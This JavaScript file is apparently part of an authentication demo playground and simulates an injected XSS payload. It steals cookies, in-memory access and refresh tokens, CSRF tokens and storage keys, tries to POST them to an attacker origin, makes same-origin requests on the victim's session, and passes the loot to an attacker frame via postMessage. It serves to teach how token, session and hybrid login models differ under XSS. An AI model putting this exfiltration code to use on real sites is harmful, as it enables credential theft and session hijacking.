// Stands for a script an attacker managed to inject into the playground page (an XSS payload).
// It runs with everything this page's script can reach: the DOM, document.cookie, web storage,
// and the page script's own variables (`state`, declared at the top level of playground.js, is
// shared by every classic script of the page). It does not run inline: the page's CSP forbids
// that, so it stands for an injection that got a script of this origin to run.
"use strict";

(async () => {
  const params = new URL(document.currentScript.src).searchParams;
  const model = params.get("model");
  const run = params.get("run");
  const attacker = document.querySelector('meta[name="tessera-attacker-origin"]').content;
  const loot = { cookie: document.cookie, access_token: null, refresh_token: null };
  const stolen = [];
  // The token model keeps its tokens in the page's memory: readable.
  // A real payload takes everything the page holds; this one takes what belongs to the model
  // being shown, so that each model's row shows that model alone.
  if (typeof state === "object" && state && model === "token") {
    if (state.access) { loot.access_token = state.access; stolen.push(`access token (${state.access.length} bytes)`); }
    if (state.refresh) { loot.refresh_token = state.refresh; stolen.push(`refresh token (${state.refresh.length} bytes)`); }
  }
  if (typeof state === "object" && state && model !== "token") {
    const csrf = model === "session" ? state.sessionCsrf : state.hybridCsrf;
    if (csrf) stolen.push("the CSRF token (no use without the cookie)");
  }
  for (const store of [localStorage, sessionStorage]) {
    for (let i = 0; i < store.length; i++) stolen.push(`storage ${store.key(i)}`);
  }
  // 1. Straight to the attacker: the page's CSP (connect-src 'self') blocks it.
  let exfiltrateFetch;
  try {
    await fetch(`${attacker}/replay`, { method: "POST", body: JSON.stringify(loot) });
    exfiltrateFetch = "sent";
  } catch (e) {
    exfiltrateFetch = `blocked (${e.name}: the page's CSP allows connections to its own origin only)`;
  }
  // 2. Ride the login from inside the page: same-origin requests carry the HttpOnly cookie.
  // (The session model's own route: /v1/me would answer for the hybrid login if there is one too.)
  const headers = model === "token" && loot.access_token ? { authorization: `Bearer ${loot.access_token}` } : {};
  const path = model === "session" ? "/v1/session" : "/v1/me";
  let sameOrigin;
  try {
    const r = await fetch(path, { headers, credentials: "same-origin" });
    const body = r.ok ? await r.json() : null;
    const as = body && (body.auth ? body.auth.model : "session");
    const csrf = body && body.csrf_token ? ", and its answer hands the script the CSRF token for unsafe requests" : "";
    sameOrigin = body ? `${r.status} (${body.user.username}, ${as})${csrf}` : String(r.status);
  } catch (e) {
    sameOrigin = `failed (${e.name})`;
  }
  // 3. Hand the loot to the attacker's page (postMessage is not governed by connect-src).
  const frame = document.getElementById("attacker-frame");
  if (frame && frame.contentWindow && attacker) {
    frame.contentWindow.postMessage({ kind: "loot", run, model, ...loot }, attacker);
  }
  window.dispatchEvent(new CustomEvent("injected-script-done", {
    detail: { cookie: loot.cookie, stolen, token_stolen: !!loot.access_token, exfiltrate_fetch: exfiltrateFetch, same_origin: sameOrigin },
  }));
})();
